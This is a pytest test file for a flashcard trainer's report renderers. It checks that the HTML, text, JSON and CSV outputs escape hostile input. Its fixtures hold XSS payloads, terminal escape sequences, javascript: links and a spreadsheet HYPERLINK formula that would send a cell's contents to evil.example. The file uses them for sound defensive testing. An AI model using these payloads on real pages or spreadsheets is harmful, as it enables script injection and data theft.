"""The four report formats: shape, sorting by flags, and hostile text kept harmless."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.analytics.conftest import answer, write_log
from trainer.analytics import Report, analyze
from trainer.analytics.report_csv import render_csv
from trainer.analytics.report_html import render_html
from trainer.analytics.report_json import render_json
from trainer.analytics.report_text import render_text
from trainer.core.compile import compile_deck

HOSTILE_CARD = 'h:e:<script>alert("x")</script>\x1b[2J'
HOSTILE_ANSWERS = [
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "\x1b]0;pwned\x07",
    "https://evil.example/steal.js",
    "</td></tr></table><iframe src=//evil.example>",
]
DECK = """\
id: h
title: Hostile <b>deck</b>
excerpts:
  - id: e
    page: 1
    text: About <script>e</script>.
    questions:
      - id: plain
        q: What is <script>alert("q")</script> & co?
        a: plain
      - id: pick
        q: "=1+2 is which one?"
        a: right
        distractors: [wrong <i>one</i>, "javascript:alert(1)", https://evil.example/x]
"""


@pytest.fixture
def report(tmp_path: Path) -> Report:
    rows = []
    for number in range(6):
        learner = f"L{number}"
        rows.append(answer(learner, 1, HOSTILE_CARD, 1, 2000, typed=HOSTILE_ANSWERS[number % 5]))
        rows.append(answer(learner, 2, "h:e:plain", 5 if number % 2 else 1, 1500, typed="x"))
        rows.append(answer(learner, 3, "h:e:pick", 5, 1000, choice=0))
    deck = tmp_path / "deck.yaml"
    deck.write_text(DECK, encoding="utf-8")
    return analyze([write_log(rows, tmp_path / "log.csv")], compiled=compile_deck(deck))


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_is_one_self_contained_file(report: Report) -> None:
    page = render_html(report)
    for outside in ("http://", "https://", "src=", "href=", "url(", "@import", "<script"):
        assert outside not in page.lower()
    parsed = Tags()
    parsed.feed(page)
    names = {tag for tag, _ in parsed.tags}
    assert names.isdisjoint({"script", "link", "img", "iframe", "object", "embed", "base", "use"})
    attributes = {name for _, attrs in parsed.tags for name, _ in attrs}
    assert attributes.isdisjoint({"src", "href", "xlink:href", "srcset", "action", "onerror"})
    meta = [dict(attrs) for tag, attrs in parsed.tags if tag == "meta"]
    assert any(m.get("http-equiv") == "Content-Security-Policy" for m in meta)
    assert "svg" in names and "table" in names


def test_html_shows_hostile_text_as_text(report: Report) -> None:
    parsed = Tags()
    parsed.feed(render_html(report))
    text = "".join(parsed.text)
    assert HOSTILE_CARD.replace("\x1b", "\\x1b") in text
    assert "<img src=x onerror=alert(1)>" in text
    assert "\x1b" not in text and "\\x1b]0;pwned\\x07" in text and "\\x1b[2J" in text
    assert 'What is <script>alert("q")</script> & co?' in text


def test_text_report_is_sorted_by_flags_and_escapes_controls(report: Report) -> None:
    text = render_text(report)
    assert "\x1b" not in text and "\x07" not in text
    lines = text.splitlines()
    table = lines[lines.index(next(line for line in lines if "flags / where / card" in line)) + 1 :]
    assert "too_hard_or_misleading" in table[0] and "</script>\\x1b[2J" in table[0]
    assert "Flagged cards:" in text and "common wrong answers:" in text


def test_json_has_the_documented_shape(report: Report) -> None:
    data = json.loads(render_json(report))
    assert data["deck"] == "h" and data["learners"] == 6
    item = data["items"][0]
    for key in ("card", "learners", "answers", "facility", "discrimination", "lapse_rate"):
        assert key in item
    assert {"ef_floor_share", "flags", "where", "retired", "options", "wrong_answers"} <= set(item)
    assert item["card"] == HOSTILE_CARD and item["flags"] == ["too_hard_or_misleading"]
    pick = next(i for i in data["items"] if i["card"] == "h:e:pick")
    assert [o["picks"] for o in pick["options"]] == [6, 0, 0, 0]
    assert "unpicked_option" in pick["flags"]


def test_json_escapes_control_characters(report: Report) -> None:
    text = render_json(report)
    assert "\x1b" not in text and "\\u001b" in text


def test_csv_defuses_formulas(report: Report) -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(report))))
    hostile = next(row for row in rows if row["card"].startswith("h:e:<script>"))
    assert hostile["card"].endswith("\\x1b[2J")  # controls escaped
    assert hostile["flags"] == "too_hard_or_misleading" and float(hostile["facility"]) == 0
    pick = next(row for row in rows if row["card"] == "h:e:pick")
    assert pick["prompt"] == "'=1+2 is which one?"
    assert pick["option_picks"] == "A=6; B=0; C=0; D*=0"  # D is the key
